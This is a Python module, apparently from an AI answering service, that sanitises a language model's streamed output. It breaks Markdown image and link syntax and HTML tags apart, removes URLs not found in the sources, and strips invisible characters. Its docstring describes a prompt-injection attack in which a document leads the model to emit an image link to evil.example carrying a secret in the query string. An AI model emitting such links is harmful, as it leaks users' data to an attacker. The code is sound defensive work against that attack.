"""What a model wrote, made harmless for whoever shows it: nothing in it loads, and no address is the model's own. Pure.

Before it: a model's text, in pieces as they come. After it: the answer. A document may have talked the model into
`![](https://evil.example/?q=<what it read>)`: the reader's browser would send the secret by showing the answer.

- An image, an inline link, a link definition and a tag with attributes are taken apart by one blank: `! [`, `] (`,
  `] :`, `< img`. Text and code mean the same with it; renderers of Markdown and HTML see no link and load nothing.
- An address (`scheme://...`, `www....`) stays, as plain text, if it stands in the passages or in the question; any
  other was made up, or carries something away, and becomes REMOVED.
- What nobody sees (control, zero-width and bidi characters) is dropped.
"""

from __future__ import annotations

import re
from bisect import bisect_left, bisect_right
from collections.abc import Iterable

from query_api.answering.unseen import without_unseen

REMOVED = "‹address-removed›"
"""One word, of characters that are no syntax, whatever stands beside it."""

_ADDRESS = re.compile(r"(?:[a-z][a-z0-9+.\-]{0,30}://|www\.)[^\s<]+", re.IGNORECASE)
_BEHIND = ".,;:!?()[]{}>'\"*_~`|"
"""What follows an address in a sentence and is none of it; our own marks are not either."""

_MARK = re.compile(r"\[\d{1,3}\Z")
_SYNTAX = re.compile(
    r"!(?=\[)|\](?=[(:])|<(?=[A-Za-z][^\s<>/]*(?:[\s/]|!\[|\][(:])|(?:script|style|svg|math|template)\b)", re.IGNORECASE
)
_WIDE = "\u2e80"
"""From here on scripts write without blanks; none of their characters is part of any syntax above."""


def addresses(texts: Iterable[str]) -> frozenset[str]:
    """The addresses that stand in these texts."""
    return frozenset(_bare(found.group()) for text in texts for found in _ADDRESS.finditer(without_unseen(text)))


def _bare(address: str) -> str:
    while True:
        cut = address.rstrip(_BEHIND)
        mark = _MARK.search(cut[-4:]) if address[len(cut) :].startswith("]") else None
        if mark is None:
            return cut
        address = cut[: len(cut) - len(mark.group())]


class Outgoing:
    """One text on its way out. The result does not depend on how the text was cut into pieces."""

    def __init__(self, allowed: frozenset[str]) -> None:
        self._allowed = allowed
        self._word: list[str] = []
        self._unbroken = False  # in an address or a tag's name, which may go on in any script
        self._fed = 0
        self._unseen: list[int] = []  # offsets, in what was fed, of characters that nobody sees
        self._read = 0  # characters taken from what is seen, and given out
        self._written = 0
        self._runs: list[tuple[int, int, int]] = []  # (begin in what is seen, begin in what came out, length there)

    def feed(self, piece: str) -> str:
        """What can be shown by now: whole words, since a word may still become an address."""
        seen = without_unseen(piece)
        if len(seen) != len(piece):
            self._unseen += [self._fed + at for at, one in enumerate(piece) if not without_unseen(one)]
        self._fed += len(piece)
        return "".join(self.finish() for character in seen if self._ends_word(character))

    def finish(self) -> str:
        """The rest."""
        text = "".join(self._word)
        self._word, self._unbroken = [], False
        return self._pass(text)

    def placed(self, offset: int) -> int:
        """Where the character at this offset of all that was fed stands in all that came out."""
        seen = offset - bisect_left(self._unseen, offset)
        at = bisect_right(self._runs, seen, key=lambda run: run[0]) - 1
        if at < 0:
            return 0
        start, begins, length = self._runs[at]
        return begins + min(seen - start, length)

    def _ends_word(self, character: str) -> bool:
        """Take the next character. No syntax and no address goes beyond the end of a word, so it can be judged."""
        word = self._word
        word.append(character)
        if not self._unbroken:
            if character in "/.":
                self._unbroken = "".join(word[-4:]).lower().endswith(("://", "www."))
            elif len(word) > 1 and word[-2] == "<":
                self._unbroken = character.isascii() and character.isalpha()
        return character.isspace() or (character >= _WIDE and not self._unbroken)

    def _pass(self, text: str) -> str:
        said, done = [], 0
        for start, end, new in self._edits(text):
            said += [self._kept(text[done:start]), self._replaced(text[start:end], new)]
            done = end
        said.append(self._kept(text[done:]))
        return "".join(said)

    def _edits(self, text: str) -> list[tuple[int, int, str]]:
        """What to write for which stretches of the text, in order."""
        foreign = []
        for found in _ADDRESS.finditer(text):
            bare = _bare(found.group())
            if bare not in self._allowed:
                foreign.append((found.start(), found.start() + len(bare), REMOVED))
        apart = (found.end() for found in _SYNTAX.finditer(text))
        inside = [(at, at, " ") for at in apart if not any(start < at < end for start, end, _ in foreign)]
        return sorted(foreign + inside)

    def _kept(self, text: str) -> str:
        if text:
            self._runs.append((self._read, self._written, len(text)))
        self._read += len(text)
        self._written += len(text)
        return text

    def _replaced(self, text: str, new: str) -> str:
        """`new` stands for `text`; an offset inside of it stays inside."""
        if text:
            self._runs.append((self._read, self._written, len(new)))
        self._read += len(text)
        self._written += len(new)
        return new
